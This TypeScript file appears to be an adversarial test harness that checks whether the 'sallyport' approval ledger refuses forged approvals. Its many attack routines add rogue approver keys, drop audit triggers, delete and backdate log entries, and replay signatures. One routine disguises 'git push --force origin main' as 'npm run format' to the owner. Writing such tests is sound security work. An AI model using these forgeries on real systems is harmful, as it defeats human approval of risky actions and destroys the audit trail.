// A process of the attacker's, which no guard was asked about: it opens the victim's store with the victim's own keys,
// by the code of the attacked checkout, and writes there whatever would make its yes count.
// Called as: node forge.ts '{"source", "home", "id", "way", …}'

import {
  createCipheriv,
  createDecipheriv,
  createPrivateKey,
  createPublicKey,
  generateKeyPairSync,
  hkdfSync,
  type KeyObject,
  randomBytes,
  scryptSync,
  sign,
} from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { userInfo } from 'node:os';
import { join } from 'node:path';

/** What the process is told to do. */
export interface Forgery {
  readonly source: string;
  readonly home: string;
  /** Where the attacker keeps a key of its own. */
  readonly keyFile: string;
  /** The question that waits. */
  readonly id: string;
  readonly way: Way;
  /** The owner's passphrase, for the control; or that of a user whom the attacker made. */
  readonly passphrase?: string;
  /** A question that was answered before. */
  readonly other?: string;
}

type Value = string | number | null;
type Row = Readonly<Record<string, unknown>>;

interface Sql {
  all(text: string, ...values: readonly Value[]): Promise<readonly Row[]>;
  run(text: string, ...values: readonly Value[]): Promise<number>;
}

interface Signer {
  readonly publicKey: string;
  sign(payload: unknown): string;
}

/** What the forgeries use of the attacked checkout. */
interface AttackedLedger {
  readonly audit: { readonly chain: string; append(entry: object): Promise<void> };
  readonly approvals: {
    answer(
      id: string,
      answer: 'approve',
      by: string,
      signer: Signer,
      reader: object,
      now: number,
    ): Promise<unknown>;
  };
  readonly credentials: { make(owner: object, now: number): Promise<{ readonly token: string }> };
  readonly store: {
    readonly engine: 'sqlite' | 'postgres';
    write<T>(work: (sql: Sql) => Promise<T>): Promise<T>;
  };
  /** A standing yes, by the name and with the terms of the version that is attacked. */
  approveForGood?(...parameters: readonly unknown[]): Promise<unknown>;
  approveWithGrant?(...parameters: readonly unknown[]): Promise<unknown>;
  fingerprint(purpose: string, value: () => unknown): string;
  close(): Promise<void>;
}

/** How the key of a user comes of a passphrase. */
interface Stretching {
  readonly N: number;
  readonly r: number;
  readonly p: number;
  readonly salt: string;
}

interface AttackedConfig {
  readonly ledger: {
    readonly key: string;
    readonly postgres: string | null;
    readonly poolSize: number;
    readonly statementTimeoutMs: number;
  };
  readonly users: readonly { readonly passphrase: Stretching }[];
}

interface Attacked {
  readonly ledger: AttackedLedger;
  readonly config: AttackedConfig;
  readonly operatorKey: Buffer;
  unlockApprover(passphrase: string): Promise<Signer>;
}

/** Opens the victim's store as its own process does, but believes every signature: it is the attacker's process. */
async function open({ source, home }: Forgery, chain: string): Promise<Attacked> {
  const { Ledger }: { Ledger: { open(options: object): Promise<AttackedLedger> } } = await import(
    join(source, 'src/ledger/index.ts')
  );
  const {
    loadConfig,
    unlockApprover,
  }: {
    loadConfig(source: object): Promise<AttackedConfig>;
    unlockApprover(home: string, passphrase: string): Promise<Signer>;
  } = await import(join(source, 'src/config/index.ts'));
  const config = await loadConfig({ home, environment: process.env });
  const { postgres: url, poolSize, statementTimeoutMs, key } = config.ledger;
  const operatorKey = Buffer.from(key || keyText(home, 'ledger.key'), 'hex');
  const store = url === null ? { file: join(home, 'ledger.db') } : { url, poolSize, statementTimeoutMs };
  const ledger = await Ledger.open({ store, operatorKey, chain, check: () => true, now: Date.now });
  return {
    config,
    ledger,
    operatorKey,
    unlockApprover: (passphrase) => unlockApprover(home, passphrase),
  };
}

function keyText(home: string, name: string): string {
  return readFileSync(join(home, 'keys', name), 'utf8').trim();
}

/** The name of the victim's chain. */
function chainOf({ home }: Forgery): string {
  return keyText(home, 'chain.id').slice(0, 16);
}

// ---- Keys ----

/** The attacker's own key, which signs as a person's does. */
function ownKey({ keyFile }: Forgery): Signer {
  if (!existsSync(keyFile)) {
    const { privateKey } = generateKeyPairSync('ed25519');
    writeFileSync(keyFile, privateKey.export({ format: 'pem', type: 'pkcs8' }));
  }
  return signerOf(createPrivateKey(readFileSync(keyFile)));
}

/** The key of a user, as it comes of the passphrase (RFC 8410 says what stands before its 32 bytes). */
function userKey({ N, r, p, salt }: Stretching, passphrase: string): Signer {
  const seed = scryptSync(passphrase, Buffer.from(salt, 'base64url'), 32, { N, r, p, maxmem: 256 * N * r });
  const key = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), seed]);
  return signerOf(createPrivateKey({ key, format: 'der', type: 'pkcs8' }));
}

function signerOf(key: KeyObject): Signer {
  const { x: publicKey = '' } = createPublicKey(key).export({ format: 'jwk' });
  // Lists of texts and numbers: their canonical form is the plain one.
  const text = (payload: unknown) => Buffer.from(JSON.stringify(payload));
  return { publicKey, sign: (payload) => sign(null, text(payload), key).toString('base64url') };
}

/** A key of the store, unwrapped by hand with the operator's key. */
async function storeKey(
  { operatorKey, ledger }: Attacked,
  purpose: string,
): Promise<{ id: string; bytes: Buffer }> {
  const wrapping = Buffer.from(hkdfSync('sha256', operatorKey, '', 'sallyport.store.wrapping.v1', 32));
  const [row] = await ledger.store.write((sql) =>
    sql.all('SELECT id, wrapped FROM keys WHERE purpose = ?', purpose),
  );
  const id = String(row?.['id']);
  const opened = unseal(wrapping, `${purpose} ${id}`, Buffer.from(String(row?.['wrapped']), 'base64'));
  return { id, bytes: Buffer.from(String(JSON.parse(opened)), 'base64') };
}

function unseal(key: Uint8Array, id: string, sealed: Uint8Array): string {
  const decipher = createDecipheriv('aes-256-gcm', key, sealed.subarray(0, 12));
  decipher.setAAD(Buffer.from(id)).setAuthTag(sealed.subarray(12, 28));
  return Buffer.concat([decipher.update(sealed.subarray(28)), decipher.final()]).toString('utf8');
}

function seal(key: Uint8Array, id: string, text: string): string {
  const nonce = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', key, nonce).setAAD(Buffer.from(id));
  const sealed = Buffer.concat([cipher.update(Buffer.from(text)), cipher.final()]);
  return Buffer.concat([nonce, cipher.getAuthTag(), sealed]).toString('base64');
}

// ---- What is written ----

/** A row of `approvers`, vouched for by the store's key. */
async function addApprover({ ledger }: Attacked, { publicKey }: Signer, name: string): Promise<void> {
  const mac = ledger.fingerprint('approver', () => [publicKey, name]);
  await ledger.store.write((sql) =>
    sql.run(
      'INSERT INTO approvers (public_key, name, created_at, mac) VALUES (?, ?, ?, ?)',
      publicKey,
      name,
      Date.now(),
      mac,
    ),
  );
}

/** A row of `people`, vouched for by the store's key. */
async function addPerson({ ledger }: Attacked, { publicKey }: Signer, role: string): Promise<void> {
  const { chain } = ledger.audit;
  const mac = ledger.fingerprint('approver', () => [publicKey, 'mallory', chain, role, '']);
  await ledger.store.write((sql) =>
    sql.run(
      'INSERT INTO people (home, public_key, role, name, policies_until, created_at, mac) VALUES (?, ?, ?, ?, ?, ?, ?)',
      ...[chain, publicKey, role, 'mallory', null, Date.now(), mac],
    ),
  );
}

/** The public key that counts now, as the home has it. */
function ownersKey({ home }: Forgery): string {
  const { publicKey } = JSON.parse(readFileSync(join(home, 'approver.json'), 'utf8'));
  return String(publicKey);
}

/** What an entry says of a key: the words of a statement, and who signed it. */
interface Claim {
  readonly kind: 'owner' | 'user' | 'recovery' | 'passkey';
  readonly by: string | null;
  readonly replaces?: string;
  readonly adopted?: true;
}

/** The details of an entry about the attacker's key, signed by that key whoever is named. */
async function claimed(forgery: Forgery, attacked: Attacked, { kind, by, replaces, adopted }: Claim) {
  const own = ownKey(forgery);
  const { id: store } = await storeKey(attacked, 'mac');
  const role = kind === 'user' ? 'admin' : 'owner';
  const statement = {
    ...{ store, key: own.publicKey, kind, name: userInfo().username, role, tenant: null },
    ...{ home: chainOf(forgery), credential: null, replaces: replaces ?? null, at: Date.now() },
  };
  const signature = by === null ? null : own.sign(['sallyport.approver.v1', ...Object.values(statement)]);
  return { ...statement, by, vouched_by: by, signature, ...(adopted === true ? { adopted } : {}) };
}

async function append({ ledger }: Attacked, type: string, details: object, time = Date.now()): Promise<void> {
  const who = { user: userInfo().username, tenant: 'local', agent: '' };
  await ledger.audit.append({ time, event_type: type, ...who, details });
}

/** An entry of the log that says that the attacker's key was added. */
async function addEntry(forgery: Forgery, attacked: Attacked, claim: Claim): Promise<void> {
  await append(attacked, 'approver_added', await claimed(forgery, attacked, claim));
}

/** An entry that asks for the attacker's key in the place of the owner's. */
async function requestReset(forgery: Forgery, attacked: Attacked, time?: number): Promise<void> {
  const { publicKey: by } = ownKey(forgery);
  const details = await claimed(forgery, attacked, { kind: 'owner', by, replaces: ownersKey(forgery) });
  await append(attacked, 'approver_reset_requested', details, time);
}

/** Lets the log be changed: whoever owns the tables can. */
async function unprotect({ ledger: { store } }: Attacked): Promise<void> {
  await store.write(async (sql) => {
    if (store.engine === 'postgres') return void (await sql.run('ALTER TABLE audit DISABLE TRIGGER USER'));
    const triggers = await sql.all("SELECT name FROM sqlite_master WHERE type = 'trigger'");
    for (const { name } of triggers) await sql.run(`DROP TRIGGER "${String(name)}"`);
  });
}

/** Deletes entries of the log by their types. */
function deleting(pattern: string) {
  return async (_: Forgery, attacked: Attacked) => {
    await unprotect(attacked);
    await attacked.ledger.store.write((sql) => sql.run('DELETE FROM audit WHERE event_type LIKE ?', pattern));
  };
}

/** Makes the entry about the first key say the attacker's, signed by it. */
async function rewriteRoot(forgery: Forgery, attacked: Attacked): Promise<void> {
  await unprotect(attacked);
  const own = ownKey(forgery);
  const details = await claimed(forgery, attacked, { kind: 'owner', by: own.publicKey });
  await attacked.ledger.store.write(async (sql) => {
    const [row] = await sql.all(
      "SELECT place, body FROM audit WHERE event_type = 'approver_added' ORDER BY place",
    );
    if (row === undefined) return;
    const body = JSON.stringify({ ...JSON.parse(String(row['body'])), details });
    await sql.run('UPDATE audit SET body = ? WHERE place = ?', body, Number(row['place']));
  });
}

/** Makes the head beside the keys name the attacker's key as the first, with the store's keyed hash. */
async function rewriteHead(forgery: Forgery, { ledger }: Attacked): Promise<void> {
  const file = join(forgery.home, 'keys', 'head.json');
  if (!existsSync(file)) return;
  const kept = JSON.parse(readFileSync(file, 'utf8'));
  const { publicKey: root } = ownKey(forgery);
  for (const head of kept.heads) {
    const { place, store, chain, seq, hash } = head;
    head.root = root;
    head.mac = ledger.fingerprint('kept head', () => [place, store, chain, seq, hash, root]);
  }
  writeFileSync(file, JSON.stringify(kept), { mode: 0o600 });
}

async function answer({ id }: Forgery, { ledger }: Attacked, signer: Signer): Promise<void> {
  await ledger.approvals.answer(id, 'approve', 'dev', signer, {}, Date.now());
}

/** Adds the attacker's key in one way or another, then answers with it. */
function adding(add: (forgery: Forgery, attacked: Attacked, own: Signer) => Promise<void>) {
  return async (forgery: Forgery, attacked: Attacked) => {
    const own = ownKey(forgery);
    await add(forgery, attacked, own);
    await answer(forgery, attacked, own);
  };
}

/** Works on a chain of its own, which the attacker's process begins. */
async function inOwnChain(forgery: Forgery, work: (attacked: Attacked) => Promise<void>): Promise<void> {
  const attacked = await open(forgery, 'a77ac4e2a77ac4e2');
  try {
    await work(attacked);
  } finally {
    await attacked.ledger.close();
  }
}

/** Changes the row of the question, or that of one which was answered before. */
function rewriting(text: string, values: (forgery: Forgery) => readonly Value[]) {
  return async (forgery: Forgery, { ledger }: Attacked) => {
    await ledger.store.write((sql) => sql.run(text, ...values(forgery)));
  };
}

/** Replaces what a person sees of the question by what a harmless one would say. */
async function swapQuestion(forgery: Forgery, attacked: Attacked): Promise<void> {
  const { id } = forgery;
  const { store } = attacked.ledger;
  const { bytes: key } = await storeKey(attacked, 'sealing');
  const [row] = await store.write((sql) => sql.all('SELECT sealed FROM approvals WHERE id = ?', id));
  const name = `approval ${id}`;
  const question = unseal(key, name, Buffer.from(String(row?.['sealed']), 'base64'));
  const harmless = question.replaceAll(/git push --force origin main/g, harmlessCommand);
  if (harmless === question) throw new Error('the question does not name the command');
  const sealed = seal(key, name, harmless);
  await store.write((sql) => sql.run('UPDATE approvals SET sealed = ? WHERE id = ?', sealed, id));
}

/** What the owner is shown in place of the real question. */
export const harmlessCommand = 'npm run format';

const insertAnswer =
  "UPDATE approvals SET state = 'approved', answered_at = ?, answered_by = 'dev', expires_at = ?, signature = ?, sealed = NULL WHERE id = ?";

const dayAndMore = 25 * 60 * 60 * 1000;

const ways = {
  /** The control: the owner's own key, by the same way. */
  owner: async (forgery: Forgery, attacked: Attacked) => {
    await answer(forgery, attacked, await attacked.unlockApprover(forgery.passphrase ?? ''));
  },
  /** A user of the configuration whom the attacker put there. */
  user: async (forgery: Forgery, attacked: Attacked) => {
    const [user] = attacked.config.users;
    if (user === undefined) throw new Error('there is no user');
    await answer(forgery, attacked, userKey(user.passphrase, forgery.passphrase ?? ''));
  },
  'unknown key': adding(async () => undefined),
  'no signature': rewriting(insertAnswer, ({ id }) => [Date.now(), Date.now() + 60_000, null, id]),
  'approvers row': adding((_, attacked, own) => addApprover(attacked, own, 'another home')),
  'approvers row of this home': adding(async (_, attacked, own) => {
    const { chain } = attacked.ledger.audit;
    await attacked.ledger.store.write((sql) => sql.run('DELETE FROM approvers WHERE name = ?', chain));
    await addApprover(attacked, own, chain);
  }),
  'only approvers row': adding(async (_, attacked, own) => {
    await attacked.ledger.store.write((sql) => sql.run('DELETE FROM approvers'));
    await addApprover(attacked, own, attacked.ledger.audit.chain);
  }),
  'people row, approver': adding((_, attacked, own) => addPerson(attacked, own, 'approver')),
  'people row, admin': adding((_, attacked, own) => addPerson(attacked, own, 'admin')),
  'entry, vouched by itself': adding((forgery, attacked, { publicKey }) =>
    addEntry(forgery, attacked, { kind: 'owner', by: publicKey }),
  ),
  'entry, taken over from an older version': adding((forgery, attacked) =>
    addEntry(forgery, attacked, { kind: 'owner', by: null, adopted: true }),
  ),
  'entry, the owner named as voucher': adding((forgery, attacked) =>
    addEntry(forgery, attacked, { kind: 'user', by: ownersKey(forgery) }),
  ),
  "entry in the place of the owner's": adding((forgery, attacked) =>
    addEntry(forgery, attacked, { kind: 'owner', by: ownersKey(forgery), replaces: ownersKey(forgery) }),
  ),
  'entry, a recovery key': adding((forgery, attacked) =>
    addEntry(forgery, attacked, { kind: 'recovery', by: ownersKey(forgery) }),
  ),
  'entry, a passkey': adding((forgery, attacked) =>
    addEntry(forgery, attacked, { kind: 'passkey', by: ownersKey(forgery) }),
  ),
  'entry and row': adding(async (forgery, attacked, own) => {
    await addEntry(forgery, attacked, { kind: 'owner', by: own.publicKey });
    await addApprover(attacked, own, attacked.ledger.audit.chain);
  }),
  'entry in a chain of its own': adding((forgery, _, { publicKey }) =>
    inOwnChain(forgery, (attacked) => addEntry(forgery, attacked, { kind: 'owner', by: publicKey })),
  ),
  'first entry rewritten': adding(rewriteRoot),
  'first entry and kept head rewritten': adding(async (forgery, attacked) => {
    await rewriteRoot(forgery, attacked);
    await rewriteHead(forgery, attacked);
  }),
  'entries deleted, own entry added': adding(async (forgery, attacked, { publicKey }) => {
    await deleting('approver_%')(forgery, attacked);
    await addEntry(forgery, attacked, { kind: 'owner', by: publicKey });
  }),
  'entries deleted, own entry added, kept head rewritten': adding(
    async (forgery, attacked, { publicKey }) => {
      await deleting('approver_%')(forgery, attacked);
      await addEntry(forgery, attacked, { kind: 'owner', by: publicKey });
      await rewriteHead(forgery, attacked);
    },
  ),
  'reset entry': adding((forgery, attacked) => requestReset(forgery, attacked)),
  'reset entry, backdated': adding((forgery, attacked) =>
    requestReset(forgery, attacked, Date.now() - dayAndMore),
  ),
  'reset entry, backdated, in a chain of its own': adding((forgery) =>
    inOwnChain(forgery, (attacked) => requestReset(forgery, attacked, Date.now() - dayAndMore)),
  ),
  'reset entry, times of the log set back': adding(async (forgery, attacked) => {
    await requestReset(forgery, attacked);
    await unprotect(attacked);
    const since = Date.now() - dayAndMore;
    await attacked.ledger.store.write((sql) =>
      sql.run('UPDATE audit SET time = time - ? WHERE time > ?', dayAndMore, since),
    );
  }),
  'reset entry, then one of tomorrow': adding(async (forgery, attacked) => {
    await requestReset(forgery, attacked);
    const details = { key: 'none', at: Date.now(), by: null, signature: null };
    await append(attacked, 'approver_ended', details, Date.now() + dayAndMore);
  }),
  'forget vetoes': deleting('approver_reset_vetoed'),
  'forget resets': deleting('approver_reset_%'),
  grant: async (forgery: Forgery, attacked: Attacked) => {
    const own = ownKey(forgery);
    await addApprover(attacked, own, 'another home');
    const { ledger } = attacked;
    const lifeMs = 3_600_000;
    const said = [forgery.id, 'dev', own, {}] as const;
    if (ledger.approveForGood === undefined) await ledger.approveWithGrant?.(...said, lifeMs, Date.now());
    else await ledger.approveForGood(...said, { reach: 'project', lifeMs, uses: null }, Date.now());
  },
  /** A credential of the highest scope; the harness answers over HTTP with it. */
  credential: async (_: Forgery, { ledger }: Attacked) => {
    const owner = { scope: 'admin', user: 'dev', tenant: 'local', agent: null };
    process.stdout.write((await ledger.credentials.make(owner, Date.now())).token);
  },
  'used answer, made fresh': rewriting(
    "UPDATE approvals SET state = 'approved' WHERE id = ?",
    ({ other }) => [other ?? ''],
  ),
  'signature of another answer': rewriting(
    `UPDATE approvals SET state = 'approved', sealed = NULL, answered_by = 'dev',
       (answered_at, expires_at, signature) = (SELECT answered_at, expires_at, signature FROM approvals WHERE id = ?)
     WHERE id = ?`,
    ({ id, other }) => [other ?? '', id],
  ),
  'question swapped': swapQuestion,
  'binding swapped': async ({ id, other = '' }: Forgery, { ledger }: Attacked) => {
    await ledger.store.write(async (sql) => {
      const [row] = await sql.all('SELECT binding FROM approvals WHERE id = ?', id);
      await sql.run('DELETE FROM approvals WHERE id = ?', id);
      await sql.run('UPDATE approvals SET binding = ? WHERE id = ?', String(row?.['binding']), other);
    });
  },
  'forget approvers': rewriting('DELETE FROM approvers', () => []),
} as const;

export type Way = keyof typeof ways;

/** Whether the attacked code refused something by name; anything else is a fault of this tool. */
function isRefusal(error: unknown): boolean {
  for (let of: unknown = error; of instanceof Object; of = Object.getPrototypeOf(of)) {
    if (of.constructor.name === 'SallyportError') return true;
  }
  return false;
}

/** The exit code for what the attacked code refused. */
export const refused = 3;

if (import.meta.main) {
  const forgery: Forgery = JSON.parse(process.argv[2] ?? '');
  const attacked = await open(forgery, chainOf(forgery));
  try {
    await ways[forgery.way](forgery, attacked);
  } catch (error) {
    if (!isRefusal(error)) throw error;
    process.stderr.write(`${String(error)}\n`);
    process.exitCode = refused;
  } finally {
    await attacked.ledger.close();
  }
}
